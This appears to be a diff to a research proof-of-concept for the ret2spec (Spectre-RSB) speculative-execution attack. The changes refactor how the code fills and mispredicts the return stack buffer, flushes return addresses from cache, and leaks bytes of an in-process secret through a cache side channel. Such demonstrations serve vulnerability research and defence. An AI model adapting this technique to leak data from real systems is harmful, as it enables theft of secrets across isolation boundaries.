@@ -1,17 +1,17 @@
+#include <algorithm>
 #include <array>
 #include <cstring>
 #include <iostream>
-#include <vector>
 
 #include "cache_sidechannel.h"
+#include "experiment.h"
+#include "hardware_constants.h"
 #include "instr.h"
+#include "local_content.h"
 #include "ret2spec_common.h"
+#include "rsb_capacity.h"
 #include "utils.h"
 
-// We cannot include the private_data twice, because that would lead to linking
-// error. Declaring it extern in here.
-extern const char *private_data;
-
 // Calls sched_yield in the cross-address-space version.
 void (*return_true_base_case)();
 // Calls sched_yield in the cross-address-space version, in the
@@ -28,12 +28,11 @@ const std::array<BigByte, 256> *oracle_ptr;
 // RSB entry identifier - set during ReturnsFalse recursion
 int rsb_entry_id;
 
+int recursion_depth = kRecursionDepth;
+
 // Return value of ReturnsFalse that never changes. Avoiding compiler
 // optimizations with it.
 bool false_value = false;
-// Pointers to stack marks in ReturnsTrue. Used for flushing the return address
-// from the cache.
-std::vector<char *> stack_mark_pointers;
 
 // Always returns false - now accounts for RSB offset
 bool ReturnsFalse(int counter) {
@@ -44,12 +43,12 @@ bool ReturnsFalse(int counter) {
       
       // Calculate RSB entry accounting for offset from other function calls
       // The actual RSB entry used depends on:
-      // - ReturnsTrue recursion depth (kRecursionDepth entries)
+      // - ReturnsTrue recursion depth (recursion_depth entries)
       // - Call to ReturnsFalseRecursion (1 entry)  
       // - ReturnsFalse recursion position
-      int rsb_offset = kRecursionDepth + 1; // ReturnsTrue calls + ReturnsFalseRecursion call
-      int current_returnsfalse_level = kRecursionDepth - counter;
-      int actual_rsb_entry = (rsb_offset + current_returnsfalse_level) % kRecursionDepth;
+      int rsb_offset = recursion_depth + 1; // ReturnsTrue calls + ReturnsFalseRecursion call
+      int current_returnsfalse_level = recursion_depth - counter;
+      int actual_rsb_entry = (rsb_offset + current_returnsfalse_level) % recursion_depth;
       
       // Leak character corresponding to this calculated RSB entry
       int leak_index = actual_rsb_entry % strlen(private_data);
@@ -63,52 +62,58 @@ bool ReturnsFalse(int counter) {
   return false_value;
 }
 
-// Always returns true.
-static bool ReturnsTrue(int counter) {
-  // Creates a stack mark and stores it to the global vector.
+// Always returns true. `caller_mark` is a stack mark in the calling frame;
+// together with the stack mark of this frame it bounds the return address.
+static bool ReturnsTrue(int counter, const char *caller_mark) {
   char stack_mark = 'a';
-  stack_mark_pointers.push_back(&stack_mark);
-
   if (counter > 0) {
     // Recursively invokes itself.
-    ReturnsTrue(counter - 1);
+    ReturnsTrue(counter - 1, &stack_mark);
   } else {
     // In the deepest invocation starts the ReturnsFalse recursion or
     // unschedule to increase the interference.
     return_false_base_case();
   }
 
-  // Cleans-up its stack mark and flushes from the cache everything between its
-  // own stack mark and the next one. Somewhere there must be also the return
-  // address.
-  stack_mark_pointers.pop_back();
-  FlushFromDataCache(&stack_mark, stack_mark_pointers.back());
+  // Flushes the return address of this frame right before the return reads
+  // it, so that frames returning earlier can't bring it back into the cache.
+  // CLFLUSH isn't ordered with later loads, so the barrier keeps the return
+  // from reading the line before it is gone.
+  uintptr_t end = reinterpret_cast<uintptr_t>(caller_mark);
+  for (uintptr_t line = reinterpret_cast<uintptr_t>(&stack_mark) &
+                        ~uintptr_t{kCacheLineBytes - 1};
+       line < end; line += kCacheLineBytes) {
+    FlushDataCacheLineNoBarrier(reinterpret_cast<const void *>(line));
+  }
+  MemoryAndSpeculationBarrier();
   return true;
 }
 
-char Ret2specLeakByte() {
-  CacheSideChannel sidechannel;
+void UseMeasuredRecursionDepth() {
+  int capacity = RsbCapacity();
+  if (capacity > 0) {
+    recursion_depth = std::min<int>(capacity, kRecursionDepth);
+  }
+}
+
+ExperimentOutcome Ret2specLeakByte(CacheSideChannel &sidechannel,
+                                   const ExperimentBudget &budget) {
+  sidechannel.ResetScores();
   oracle_ptr = &sidechannel.GetOracle();
   const std::array<BigByte, 256> &oracle = *oracle_ptr;
 
-  for (int run = 0;; ++run) {
+  return RunExperiment(sidechannel, budget, [&](int /* run */) {
     sidechannel.FlushOracle();
 
-    // Stack mark for the first call of ReturnsTrue. Otherwise it would read
-    // from an empty vector and crash.
+    // Upper bound of the return address of the outermost ReturnsTrue.
     char stack_mark = 'a';
-    stack_mark_pointers.push_back(&stack_mark);
-    ReturnsTrue(kRecursionDepth);
-    stack_mark_pointers.pop_back();
-
-    std::pair<bool, char> result = sidechannel.AddHitAndRecomputeScores();
-    if (result.first) {
-      return result.second;
-    }
+    // The calls fill the RSB and the returns trigger. The calls of a mark
+    // between them would overwrite the RSB entries the returns mispredict to,
+    // so both count as training.
+    MarkPhase(ExperimentPhase::kTrain);
+    ReturnsTrue(recursion_depth, &stack_mark);
 
-    if (run > 100000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
-    }
-  }
+    MarkPhase(ExperimentPhase::kProbe);
+    return sidechannel.AddHitAndRecomputeScores();
+  });
 }
\ No newline at end of file